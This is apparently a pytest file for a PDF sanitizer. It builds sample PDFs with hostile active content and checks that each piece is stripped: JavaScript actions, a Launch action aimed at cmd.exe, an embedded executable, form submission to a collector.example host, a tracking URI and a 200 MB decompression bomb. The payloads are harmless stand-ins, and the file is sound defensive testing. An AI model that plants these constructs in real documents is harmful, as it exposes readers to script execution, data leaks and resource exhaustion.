"""The sanitized PDF copy keeps no active content: each kind is built here, stripped, and re-checked with pypdf."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from pypdf import PdfReader

from section307.allegations.evidence import inspect_file, sanitize
from section307.core.pdfclean import find_active_content

JS = "app.alert('owned')"


def _js(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=JS))


def _action(pdf: pikepdf.Pdf, kind: str, **extra: object) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **extra))


def _annot(pdf: pikepdf.Pdf, subtype: str, **extra: object) -> pikepdf.Dictionary:
    annot = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[10, 10, 100, 40], **extra)
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([*pdf.pages[0].obj.get("/Annots", []), annot]))
    return annot


def _open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js(pdf)


def _document_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf))


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_js(pdf))


def _annotation_aa(pdf: pikepdf.Pdf) -> None:
    _annot(pdf, "/Link", AA=pikepdf.Dictionary(E=_js(pdf)))


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), _js(pdf)]))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"MZ payload", Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="run.exe", EF=pikepdf.Dictionary(F=stream))
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("run.exe"), spec]))


def _xfa_and_field_script(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="name", AA=pikepdf.Dictionary(K=_js(pdf)), Rect=[0, 0, 1, 1])
    )
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=xfa)


def _link(kind: str, **extra: object) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        _annot(pdf, "/Link", A=_action(pdf, kind, **extra))

    return build


def _multimedia(subtype: str) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        _annot(pdf, subtype)

    return build


def _outline_script(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(pikepdf.Dictionary(Title="Start", A=_js(pdf)))
    pdf.Root.Outlines = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    )
    item.Parent = pdf.Root.Outlines


def _chained_after_goto(pdf: pikepdf.Pdf) -> None:
    goto = _action(pdf, "/GoTo", D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=_js(pdf))
    _annot(pdf, "/Link", A=goto)


KINDS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "open action": _open_action,
    "document AA": _document_aa,
    "page AA": _page_aa,
    "annotation AA": _annotation_aa,
    "Names/JavaScript": _names_javascript,
    "Names/EmbeddedFiles": _embedded_file,
    "AcroForm XFA and field script": _xfa_and_field_script,
    "Launch": _link("/Launch", F="cmd.exe"),
    "URI": _link("/URI", URI="https://tracker.example/pixel"),
    "SubmitForm": _link("/SubmitForm", F="https://collector.example/"),
    "ImportData": _link("/ImportData", F="data.fdf"),
    "GoToR": _link("/GoToR", F="other.pdf", D=[0, pikepdf.Name.Fit]),
    "GoToE": _link("/GoToE", D=[0, pikepdf.Name.Fit]),
    "RichMedia": _multimedia("/RichMedia"),
    "3D": _multimedia("/3D"),
    "Movie": _multimedia("/Movie"),
    "Sound": _multimedia("/Sound"),
    "outline script": _outline_script,
    "script chained after a GoTo": _chained_after_goto,
}


def build_pdf(*builders: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    pdf.add_blank_page(page_size=(612, 792))
    for build in builders:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", list(KINDS))
def test_each_kind_of_active_content_is_stripped(kind: str) -> None:
    data = build_pdf(KINDS[kind])
    assert find_active_content(data), "the test PDF must hold the active content it is named after"
    result = sanitize(data, inspect_file(data, max_bytes=1024 * 1024))
    assert result.status == "cleaned" and result.data is not None
    assert any(r.startswith("active content") for r in result.removed)
    assert find_active_content(result.data) == set()
    assert b"app.alert" not in result.data and b"cmd.exe" not in result.data
    assert len(PdfReader(io.BytesIO(result.data)).pages) == 2


def test_everything_at_once_and_internal_links_stay() -> None:
    def goto_page_two(pdf: pikepdf.Pdf) -> None:
        _annot(pdf, "/Link", A=_action(pdf, "/GoTo", D=[pdf.pages[1].obj, pikepdf.Name.Fit]))

    data = build_pdf(*KINDS.values(), goto_page_two)
    result = sanitize(data, inspect_file(data, max_bytes=1024 * 1024))
    assert result.status == "cleaned" and result.data is not None
    assert find_active_content(result.data) == set()
    with pikepdf.open(io.BytesIO(result.data)) as clean:
        links = [a for a in clean.pages[0].obj.get("/Annots", []) if "/A" in a]
        assert [str(a.A.S) for a in links] == ["/GoTo"]


def test_compressed_streams_are_copied_not_inflated() -> None:
    """A page stream that inflates to 200 MB (a PDF decompression bomb) passes through byte for byte."""
    import zlib

    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(b"\x00" * 1024 * 1024) for _ in range(200)) + packer.flush()
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    pdf.pages[0].obj.Contents = pdf.make_stream(bomb, Filter=pikepdf.Name.FlateDecode)
    pdf.Root.OpenAction = _js(pdf)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    data = out.getvalue()
    assert len(data) < 1024 * 1024
    result = sanitize(data, inspect_file(data, max_bytes=1024 * 1024))
    assert result.status == "cleaned" and result.data is not None
    assert len(result.data) < 1024 * 1024 and bomb in result.data
    assert find_active_content(result.data) == set()
